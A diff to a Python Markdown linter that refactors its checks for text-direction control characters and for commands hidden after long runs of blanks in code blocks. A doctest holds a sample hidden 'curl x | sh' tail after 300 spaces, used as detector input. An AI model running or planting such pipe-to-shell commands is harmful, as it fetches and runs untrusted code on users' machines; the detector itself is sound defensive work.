@@ -17,7 +17,7 @@ from typing import Any
 import yaml
 
 from .entries import ErrorEntry, code_span_text
-from .markdown_lines import BRACES, FENCE, FENCED, HASH_ID, HTML, PROSE, heading_slug, heading_text, line_roles, prose_lines
+from .markdown_lines import BRACES, HASH_ID, HTML, PROSE, fence_languages, heading_slug, heading_text, line_roles, prose_lines
 from .metadata import DEFAULT_TIMEZONE, display_name, mkdocs_reads_other_front_matter, normalise_date
 from .safety import DIRECTION_CONTROL_RANGES, DIRECTION_CONTROLS, find_unsafe_html, find_unsafe_text, markdown_links
 from .text.bytemap import BYTE_RUN, run_to_bytes, split_pieces
@@ -234,12 +234,21 @@ def check_unsafe_html(body: str, path: str, first_line: int) -> list[Problem]:
     ['a.md:6: text-direction control character U+2067 (what a reader sees is not what is copied): remove it [unsafe-html]']
     """
     problems = [Problem(path, u.line, "unsafe-html", u.message) for u in find_unsafe_html(body, first_line)]
-    if DIRECTION_CONTROLS.search(body) or "&" in body and DIRECTION_CONTROLS.search(html.unescape(body)):
+    if _direction_control(body):
         for offset, line in enumerate(body.split("\n")):
-            # Written as a character reference too (``&rlm;``, ``&#x202e;``): the page shows the character.
-            if found := DIRECTION_CONTROLS.search(line) or "&" in line and DIRECTION_CONTROLS.search(html.unescape(line)):
+            if found := _direction_control(line):
                 problems.append(Problem(path, first_line + offset, "unsafe-html", f"text-direction control character U+{ord(found[0]):04X} (what a reader sees is not what is copied): remove it"))
     return sorted(problems + hidden_past_blanks(body, path, first_line), key=lambda p: p.line)
+
+
+def _direction_control(text: str) -> re.Match | None:
+    """The first text-direction control in ``text``, written as a character or as a character reference (``&rlm;``,
+    ``&#x202e;``: the page shows the character).
+
+    >>> _direction_control("a &rlm; b")[0] == "\u200f", _direction_control("a &amp; b")
+    (True, None)
+    """
+    return DIRECTION_CONTROLS.search(text) or ("&" in text and DIRECTION_CONTROLS.search(html.unescape(text))) or None
 
 
 #: Characters a code block draws as empty space: spaces and tabs, Unicode's other spaces, the letters that print as
@@ -254,6 +263,7 @@ MAX_BLANK_RUN = 32
 #: that a tool prints pads its cells with long runs of spaces but most end by column 80 (``nvidia-smi``'s ``|  No
 #: running processes found   …   |``), so a run counts only where the text after it starts beyond this.
 HIDDEN_COLUMN = 80
+_BLANK_RUN = re.compile(f"[{_BLANKS}]{{{MAX_BLANK_RUN},}}")
 _HIDING_BLANKS = re.compile(f"[^{_BLANKS}][{_BLANKS}]{{{MAX_BLANK_RUN},}}(?=[^{_BLANKS}])")
 
 
@@ -264,12 +274,12 @@ def hidden_past_blanks(body: str, path: str, first_line: int) -> list[Problem]:
     >>> [str(p) for p in hidden_past_blanks("```bash\\npip install requests" + " " * 300 + "; curl x | sh\\n```\\n| a" + " " * 40 + "| b |", "a.md", 5)]
     ['a.md:6: text after 300 blank characters, out of sight where the line is shown (a code block scrolls sideways) but copied with it: remove the blanks [unsafe-html]']
     """
-    if not re.search(f"[{_BLANKS}]{{{MAX_BLANK_RUN},}}", html.unescape(body) if "&" in body else body):
+    if not _BLANK_RUN.search(html.unescape(body) if "&" in body else body):
         return []
     problems = []
     lines = body.split("\n")
     roles = line_roles(body)
-    languages = _fence_languages(lines, roles)
+    languages = fence_languages(lines)
     for offset, (line, role) in enumerate(zip(lines, roles)):
         if role == PROSE and "|" in line:
             continue
@@ -288,33 +298,6 @@ def hidden_past_blanks(body: str, path: str, first_line: int) -> list[Problem]:
 _COMMAND_LANGUAGES = frozenset({"", "bash", "sh", "shell", "zsh", "fish", "console", "shellsession", "powershell", "ps1", "pwsh", "cmd", "bat", "batch"})
 #: What in a line's hidden tail changes what it runs when pasted: another command, a pipe, a substitution, an option.
 _RUNS_SOMETHING = re.compile(r"[;|&`]|\$\(|(?:^|[ \t])--?[A-Za-z]")
-
-
-def _fence_languages(lines: list[str], roles: list[str]) -> list[str | None]:
-    """For each line, the language its fenced code block names (lower case; ``""`` for none), or None outside fences.
-
-    >>> _fence_languages(["```Bash", "ls", "```", "x", "~~~", "y", "~~~"], [FENCED] * 3 + [PROSE] + [FENCED] * 3)
-    ['bash', 'bash', 'bash', None, '', '', '']
-    >>> _fence_languages(["```text", "out", "```", "```bash", "ls", "```"], [FENCED] * 6)
-    ['text', 'text', 'text', 'bash', 'bash', 'bash']
-    """
-    out: list[str | None] = []
-    language: str | None = None
-    fence = ""
-    for line, role in zip(lines, roles):
-        marker = FENCE.match(line) if role == FENCED else None
-        if role != FENCED:
-            language, fence = None, ""
-        elif not fence and marker:  # an opening fence: its info string names the language
-            fence = marker.group(1)
-            words = line[marker.end() :].strip().lstrip("{.").split()
-            language = words[0].lower().rstrip("}") if words else ""
-            out.append(language)
-            continue
-        out.append(language)
-        if fence and marker and marker.group(1)[0] == fence[0] and len(marker.group(1)) >= len(fence) and not line[marker.end() :].strip():
-            language, fence = None, ""  # the closing fence: the next block names its own
-    return out
 
 
 #: Deeper than this, Python-Markdown's time grows with the cube of the depth (1,200 levels:
